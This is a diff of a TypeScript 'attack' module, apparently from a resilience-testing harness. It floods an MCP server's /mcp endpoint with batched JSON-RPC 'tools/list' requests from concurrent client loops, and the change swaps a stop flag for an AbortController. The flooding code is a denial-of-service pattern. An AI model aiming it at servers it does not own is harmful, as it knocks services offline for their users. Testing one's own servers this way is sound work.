@@ -14,7 +14,7 @@ export const attack: Attack = {
     const messages = Array.from({ length: BATCH }, (_, id) => ({ jsonrpc: '2.0', id, method: 'tools/list' }))
     const body = JSON.stringify(messages)
     const headers = { 'content-type': 'application/json', accept: 'application/json, text/event-stream' }
-    let stopped = false
+    const stopped = new AbortController()
     const ask = () =>
       new Promise<void>((resolve) => {
         const sent = request(`${url}/mcp`, { method: 'POST', agent, headers, localAddress: ATTACKER }, (response) => {
@@ -24,11 +24,11 @@ export const attack: Attack = {
         sent.end(body)
       })
     const loop = async () => {
-      while (!stopped) await ask()
+      while (!stopped.signal.aborted) await ask()
     }
     for (let client = 0; client < CLIENTS; client++) void loop()
     return async () => {
-      stopped = true
+      stopped.abort()
       agent.destroy()
     }
   },
